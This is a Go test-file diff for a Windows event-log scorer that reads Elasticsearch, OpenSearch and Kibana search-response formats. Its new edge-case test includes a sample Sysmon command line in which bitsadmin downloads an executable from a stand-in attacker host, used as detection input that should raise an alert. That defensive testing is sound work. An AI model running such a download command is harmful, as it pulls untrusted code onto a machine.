@@ -189,12 +189,25 @@ func ingested(doc *ordered) {
 // (_search, elasticdump) and Kibana's CSV export.
 func ecsOutputs(t *testing.T, docs []*ordered, label string) map[string][]byte {
 	var lines, hits [][]byte // hits: as Elasticsearch returns a document, and elasticdump writes it
+	var fieldHits [][]byte   // hits of a search with "_source": false and "fields": ["*"]
 	var columns []string
 	var rows [][2]string
 	for i, doc := range docs {
 		lines = append(lines, []byte(doc.json()))
 		hits = append(hits, []byte(fmt.Sprintf(`{"_index":"winlogbeat-8","_id":"%d","_score":1,"_source":%s}`, i, doc.json())))
+		rows = rows[:0]
+		doc.flat("", &rows)
+		fields := map[string][]string{} // every value an array, names dotted
+		for _, r := range rows {
+			fields[r[0]] = append(fields[r[0]], r[1])
+		}
+		text, err := json.Marshal(fields)
+		if err != nil {
+			t.Fatal(err)
+		}
+		fieldHits = append(fieldHits, []byte(fmt.Sprintf(`{"_index":"winlogbeat-8","_id":"%d","_score":1,"fields":%s}`, i, text)))
 	}
+	total := `{"value":` + strconv.Itoa(len(hits)) + `,"relation":"eq"}`
 	cells := make([]map[string]string, len(docs))
 	for i, doc := range docs {
 		rows = rows[:0]
@@ -226,7 +239,10 @@ func ecsOutputs(t *testing.T, docs []*ordered, label string) map[string][]byte {
 		"ECS, " + label + ", JSON array":                                []byte("[" + string(joinLines(lines, ",\n")) + "]"),
 		"ECS, " + label + ", elasticdump hits":                          joinLines(hits, "\n"),
 		"ECS, " + label + ", Kibana CSV (dot names)":                    b.Bytes(),
-		"ECS, " + label + ", Elasticsearch _search response":            searchResponse(hits, `{"value":`+strconv.Itoa(len(hits))+`,"relation":"eq"}`, ""),
+		"ECS, " + label + ", Elasticsearch _search response":            searchResponse(hits, total, ""),
+		"ECS, " + label + ", _search with fields, no _source":           searchResponse(fieldHits, total, ""),
+		"ECS, " + label + ", async search response":                     append([]byte(`{"id":"FmRldE8zREVEUzA2ZVpUeGs2ejJFUFEaMkZ5QTVrSTZSaVN3WlNFVmtlWHJsdzoxMDc=","is_partial":false,"is_running":false,"start_time_in_millis":1583945890986,"expiration_time_in_millis":1584377890986,"response":`), append(searchResponse(hits, total, ""), '}')...),
+		"ECS, " + label + ", Kibana Inspect rawResponse, fields":        append(append([]byte(`{"rawResponse":`), searchResponse(fieldHits, total, "")...), `,"isPartial":false,"isRunning":false,"total":1,"loaded":1,"isRestored":false}`...),
 		"ECS, " + label + ", Elasticsearch 6 _search, two scroll pages": searchPages(hits),
 		"ECS, " + label + ", OpenSearch _search response, pretty":       prettyResponse(t, hits),
 	}
@@ -575,5 +591,40 @@ func TestDocumentCutShort(t *testing.T) {
 				t.Errorf("status %d, stderr %q", status, stderr)
 			}
 		})
+	}
+}
+
+// TestSearchResponseEdges: a response with no hits is no event and no
+// error, wrapped or not; a response that reports an error instead of hits
+// is an error named on stderr; a fields hit's array of several values is
+// read as _source's array is (its first value for an EventData field).
+func TestSearchResponseEdges(t *testing.T) {
+	for _, input := range []string{
+		`{"took":1,"timed_out":false,"hits":{"total":{"value":0,"relation":"eq"},"hits":[]}}`,
+		`{"id":"x","is_partial":false,"is_running":false,"response":{"took":1,"hits":{"total":{"value":0},"hits":[]}}}`,
+		`{"rawResponse":{"took":1,"hits":{"hits":[]}},"isPartial":false}`,
+	} {
+		got, status, stderr := scoreInput(t, []byte(input))
+		if len(got) != 0 || !strings.Contains(stderr, "0 events scored") {
+			t.Errorf("%s: %d events, status %d, stderr %q; want none, no error", input, len(got), status, stderr)
+		}
+	}
+	for _, input := range []string{
+		`{"error":{"root_cause":[],"type":"index_not_found_exception","reason":"no such index [winlogbeat-x]"},"status":404}`,
+		`{"id":"x","is_partial":true,"is_running":false,"error":{"type":"search_phase_execution_exception","reason":"all shards failed"}}`,
+		`{"id":"x","is_running":false,"response":{"took":1,"error":{"type":"search_phase_execution_exception","reason":"all shards failed"}}}`,
+	} {
+		got, status, stderr := scoreInput(t, []byte(input))
+		if len(got) != 0 || status != ExitUsage || !strings.Contains(stderr, "the search failed") || !strings.Contains(stderr, "_exception") {
+			t.Errorf("%s: %d events, status %d, stderr %q; want the error", input, len(got), status, stderr)
+		}
+	}
+	const cmd = `bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe`
+	source := `{"_index":"i","_source":{"winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_data":{"Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":["` + cmd + `","x"]}}}}`
+	fields := `{"_index":"i","fields":{"winlog.event_id":["1"],"winlog.channel":["Microsoft-Windows-Sysmon/Operational"],"winlog.provider_name":["Microsoft-Windows-Sysmon"],"winlog.event_data.Image":["C:\\Windows\\System32\\bitsadmin.exe"],"winlog.event_data.CommandLine":["` + cmd + `","x"]}}`
+	want, _, _ := scoreInput(t, []byte(source))
+	got, _, stderr := scoreInput(t, []byte(fields))
+	if len(want) != 1 || !strings.Contains(want[0], "alert=true") || !slices.Equal(got, want) {
+		t.Errorf("fields hit with an array: %q, want %q as its _source twin (stderr %s)", got, want, stderr)
 	}
 }
